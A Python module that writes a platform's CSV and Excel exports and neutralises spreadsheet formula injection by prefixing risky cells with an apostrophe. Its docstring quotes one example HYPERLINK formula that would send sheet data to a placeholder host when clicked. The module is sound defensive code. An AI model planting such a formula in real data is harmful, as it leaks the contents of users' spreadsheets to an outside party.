"""The one export writer: every table the platform hands out (Excel workbooks, CSV files,
rejected import rows) is written here, so every cell is neutralised the same way.

A spreadsheet runs a cell that begins with ``=``, ``+``, ``-`` or ``@`` (and, in some
programs, a tab or carriage return) as a formula: a person named
``=HYPERLINK("http://x/?"&A1,"点我")`` would send the sheet's data away when clicked
(OWASP, CSV injection). Such text gets a leading apostrophe, which spreadsheets show as
text; numbers, dates and text that is a plain number ("-12.5") stay as they are."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable
from typing import Any

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d[\d,]*)(\.\d+)?([eE][+-]?\d+)?%?")


def neutralise(value: Any) -> Any:
    """The cell as a spreadsheet may safely hold it."""
    if isinstance(value, str) and value.startswith(_FORMULA_START):
        if _PLAIN_NUMBER.fullmatch(value):
            return value
        return "'" + value
    return value


def neutralise_row(row: Iterable[Any]) -> list[Any]:
    return [neutralise(v) for v in row]


class SafeCsvWriter:
    """csv.writer whose rows pass through ``neutralise``."""

    def __init__(self, stream, **kwargs):
        self._writer = csv.writer(stream, **kwargs)

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow(neutralise_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_bytes(header: list[str], rows: Iterable[Iterable[Any]]) -> bytes:
    """A CSV file in UTF-8 with BOM (so that Excel opens it in Chinese)."""
    buffer = io.StringIO()
    writer = SafeCsvWriter(buffer)
    writer.writerow(header)
    writer.writerows(rows)
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")


def workbook(sheets: list[tuple[str, list[str], list[list]]]) -> bytes:
    """An .xlsx of (sheet title, header, rows) sheets, as staff hand tables upward: a
    bold, frozen header row and columns wide enough for their content."""
    from openpyxl import Workbook
    from openpyxl.styles import Font

    book = Workbook()
    book.remove(book.active)
    for title, header, rows in sheets:
        sheet = book.create_sheet(title[:31])
        sheet.append(neutralise_row(header))
        for cell in sheet[1]:
            cell.font = Font(bold=True)
        for row in rows:
            sheet.append(neutralise_row(row))
        sheet.freeze_panes = "A2"
        for i, name in enumerate(header, start=1):
            width = max([len(str(name)) * 2] + [len(str(r[i - 1])) + 2 for r in rows[:200]])
            sheet.column_dimensions[sheet.cell(1, i).column_letter].width = min(60, width)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV = "text/csv; charset=utf-8"
